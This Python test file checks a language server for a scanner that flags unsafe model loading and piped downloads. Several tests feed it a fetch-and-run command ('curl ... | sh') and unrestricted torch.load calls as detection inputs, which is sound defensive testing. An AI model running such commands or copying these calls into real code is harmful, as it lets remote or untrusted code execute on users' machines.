from __future__ import annotations

import ast
import dataclasses
import os
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

pytest.importorskip("pygls", reason="needs pip install '.[dev,lsp]'")

import scanner_core.scan
from lsp_server import analysing
from lsp_server.analysis import Analysis, places
from lsp_server.analyst import asked_of
from lsp_server.documents import Document
from lsp_server.programs import Program
from lsp_server.settings import Settings
from scanner_core import rules
from scanner_core.findings import Kind, Link, Verdict
from scanner_core.testing import assemble

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from scanner_core.facts import Fact
    from scanner_core.rules import Rule
    from scanner_core.source import SourceText

TEXT = "import torch\ntorch.load('x.pt', weights_only=False)\n"


def program(uri: str, version: int, text: str) -> Program:
    return Program.of(Document(uri, version, text))


def analyse(program: Program, settings: Settings, roots: Sequence[Path]) -> Analysis:
    answered = analysing.analyse(asked_of(program), settings, roots)
    return Analysis(program, answered.report, answered.failure)


def source_text(program: Program) -> SourceText:
    return analysing.source_text(asked_of(program))


def notebook(text: str, number: int = 1) -> Program:
    cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, text)
    return Program("file:///work/nb.ipynb", 1, (cell,), (number,))


def test_a_failing_engine_is_one_line_and_no_end(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def fail(*_: object) -> None:
        raise KeyError("row")

    monkeypatch.setattr(scanner_core.scan, "scan_source", fail)
    asked = asked_of(program("untitled:1", 1, TEXT))
    answered = analysing.analyse(asked, Settings(), ())

    assert answered.report is None
    assert answered.failure == "KeyError: 'row'"
    assert answered.failures == ("no analysis of 'untitled:1': KeyError: 'row'",)


def test_a_failing_rule_is_one_line_and_the_others_go_on(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    text = f"{TEXT}import os\nos.system('curl -s https://example.org/i | sh')\n"
    asked = asked_of(program("untitled:1", 1, text))
    before = analysing.analyse(asked, Settings(), ())

    def fail(*_: object) -> None:
        raise KeyError("row")

    def listening(fact: Fact) -> list[Rule]:
        return [
            dataclasses.replace(rule, judge=fail)
            if rule.id == "unrestricted-torch-load"
            else rule
            for rule in original(fact)
        ]

    original = rules.listening
    analysing.forget("untitled:1")
    monkeypatch.setattr(rules, "listening", listening)
    answered = analysing.analyse(asked, Settings(), ())
    assert answered.report
    assert before.report
    assert before.failures == ()
    assert answered.failures == (
        "<untitled:1>:2:1: internal error in unrestricted-torch-load: KeyError: 'row'",
    )
    assert [f.rule for f in before.report.artifacts[0].findings] == [
        "unrestricted-torch-load",
        "piped-download",
    ]
    assert [f.rule for f in answered.report.artifacts[0].findings] == ["piped-download"]


def test_a_finding_leads_to_what_its_call_loads(
    tmp_path: Path, plant: Callable[[Path], Path]
) -> None:
    plant(tmp_path / "x.pt")
    uri = (tmp_path / "train.py").as_uri()
    analysis = analyse(program(uri, 1, TEXT), Settings(), ())

    assert analysis.source is not None
    [finding] = analysis.source.findings
    [linked] = analysis.linked(finding)
    assert Path(linked.artifact.path) == tmp_path / "x.pt"
    assert list(analysis.unlinked()) == []


def test_what_is_not_on_disk_is_looked_for_in_the_workspace_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, plant: Callable[[Path], Path]
) -> None:
    here, root = tmp_path / "here", tmp_path / "root"
    plant(here / "x.pt")
    root.mkdir()
    monkeypatch.chdir(here)
    document = program("untitled:Untitled-1", 1, TEXT)

    found = [
        analyse(document, Settings(), roots).report for roots in ((root,), (here,))
    ]
    assert [len(report.artifacts) if report else 0 for report in found] == [1, 2]


def test_only_the_edited_part_of_a_document_is_parsed_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    parsed = list[str]()
    analysing.forget("untitled:1")
    lines = [*TEXT.split("\n"), "if x:", "    pass", *("y = 1" for _ in range(9))]
    analyse(program("untitled:1", 1, "\n".join(lines)), Settings(), ())
    original = ast.parse

    def note(text: str) -> ast.Module:
        parsed.append(text.strip())
        return original(text)

    monkeypatch.setattr(ast, "parse", note)
    lines[4:5] = ["    torch.load('y.pt', weights_only=False)", "    pass"]
    analysis = analyse(program("untitled:1", 2, "\n".join(lines)), Settings(), ())
    monkeypatch.undo()

    assert set(parsed) == {"\n".join(lines[3:6])}
    assert analysis.source is not None
    assert [each.location.line for each in analysis.source.findings] == [2, 5]


def test_a_cell_is_read_as_part_of_a_notebook() -> None:
    cell = notebook("%pip list\n")

    assert source_text(cell).kind is Kind.NOTEBOOK
    assert source_text(cell).path == "/work/nb.ipynb"
    assert source_text(program("untitled:1", 1, "")).path == "<untitled:1>"


@pytest.mark.skipif(os.name == "nt", reason="the paths are those of POSIX")
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        pytest.param("/a/b/train.py", ["/a/b", "/a"], id="innermost root first"),
        pytest.param("/c/train.py", ["/c"], id="no other root"),
        pytest.param("/d/train.py", ["/a", "/c", "/a/b"], id="in no root: every one"),
        pytest.param(None, ["/a", "/c", "/a/b"], id="no file: every one"),
    ],
)
def test_a_literal_path_is_looked_for_in_the_roots_around_its_file(
    path: str | None, expected: list[str]
) -> None:
    roots = [Path("/a"), Path("/c"), Path("/a/b")]

    found = places(Path(path) if path else None, roots)
    assert [place.as_posix() for place in found] == expected


MINE = "PROTO 2\nGLOBAL 'mine.layers Attention'\nSTOP"


def test_the_user_knows_classes_here_as_everywhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "x.pkl").write_bytes(assemble(MINE))
    text = "import pickle\npickle.load(open('x.pkl', 'rb'))\n"
    asked = asked_of(program((tmp_path / "train.py").as_uri(), 1, text))
    before = analysing.analyse(asked, Settings(), ())
    (tmp_path / "config" / "gifthorse").mkdir(parents=True)
    config = tmp_path / "config" / "gifthorse" / "config.toml"

    config.write_text("known-classes = ['mine.*']\n")
    after = analysing.analyse(asked, Settings(), ())
    config.write_text("known-clases = []\n")
    wrong = analysing.analyse(asked, Settings(), ())

    assert before.report
    assert after.report
    assert wrong.report
    assert before.report.verdict is Verdict.REVIEW
    assert after.report.verdict is Verdict.CLEAN
    assert wrong.report.artifacts == before.report.artifacts
    assert wrong.complaint.startswith(f"{config}:1: there is no known-clases to set")


def test_a_workspace_that_is_open_is_not_trusted_for_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.pkl").write_bytes(assemble(MINE))
    (tmp_path / "gifthorse.toml").write_text("known-classes = ['mine.*']\n")
    text = "import pickle\npickle.load(open('x.pkl', 'rb'))\n"

    document = program((tmp_path / "train.py").as_uri(), 1, text)
    analysis = analyse(document, Settings(), [tmp_path])

    assert analysis.source
    assert analysis.source.verdict is Verdict.REVIEW


def test_shell_lines_of_a_cell_are_judged_where_they_stand() -> None:
    text = "x = 1\nif x:\n    !curl -s https://example.org/i.sh | sh\n"
    cell = notebook(text)
    analysis = analyse(cell, Settings(), ())

    assert analysis.source is not None
    [finding] = analysis.source.findings
    assert finding.rule == "piped-download"
    assert (finding.location.line, finding.location.column) == (3, 5)


def test_a_module_has_no_shell_lines() -> None:
    text = "!curl -s https://example.org/i.sh | sh\n"
    analysis = analyse(program("untitled:1", 1, text), Settings(), ())

    assert analysis.source is not None
    assert not analysis.source.findings


def test_versions_come_from_the_interpreter_else_from_the_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("VIRTUAL_ENV", raising=False)
    monkeypatch.delenv("CONDA_PREFIX", raising=False)
    chosen = tmp_path / "chosen"
    site = chosen / "lib" / "python3.12" / "site-packages"
    (site / "torch-2.6.0.dist-info").mkdir(parents=True)
    root = tmp_path / "root"
    root.mkdir()
    (root / "requirements.txt").write_text("torch==2.5.1\n", encoding="utf-8")
    text = "import torch\ntorch.load(path)\n"
    document = program((root / "train.py").as_uri(), 1, text)

    pinned = analyse(document, Settings(), (root,)).source
    installed = analyse(document, Settings(chosen), (root,)).source

    assert pinned is not None
    assert "requirements.txt pins torch 2.5.1" in pinned.findings[0].message
    assert installed is not None
    assert installed.findings[0].rule == "vulnerable-loader"
    assert [basis.version for basis in installed.judged_by] == ["2.6.0"]


@pytest.mark.parametrize("root", ["project", "other"])
def test_an_ignore_comment_counts_in_the_workspace_only(
    tmp_path: Path, root: str
) -> None:
    comment = "# gifthorse: ignore[unrestricted-torch-load] -- our own"
    text = f"import torch\ntorch.load(path, weights_only=False)  {comment}\n"
    uri = (tmp_path / "project" / "train.py").as_uri()

    analysis = analyse(program(uri, 1, text), Settings(), [tmp_path / root])

    assert analysis.source is not None
    [finding] = analysis.source.findings
    assert (finding.suppressed is not None) is (root == "project")


def test_who_asks_about_each_of_many_calls_has_the_links_gone_through_once(
    tmp_path: Path, plant: Callable[[Path], Path]
) -> None:
    class Counted(tuple[Link, ...]):  # noqa: SLOT001 (counts)
        times = 0

        def __iter__(self) -> Iterator[Link]:
            Counted.times += 1
            return super().__iter__()

    plant(tmp_path / "x.pt")
    text = "import torch\n" + "torch.load('x.pt', weights_only=False)\n" * 3
    asked = program((tmp_path / "a.py").as_uri(), 1, text)
    report = analyse(asked, Settings(), [tmp_path]).report
    assert report
    source = report.artifacts[0]
    counted = dataclasses.replace(source, linked=Counted(source.linked))
    report = dataclasses.replace(report, artifacts=(counted, *report.artifacts[1:]))
    analysis = Analysis(asked, report)

    found = [len(list(analysis.linked(each))) for each in source.findings]

    assert found == [1, 1, 1]
    assert Counted.times == 1
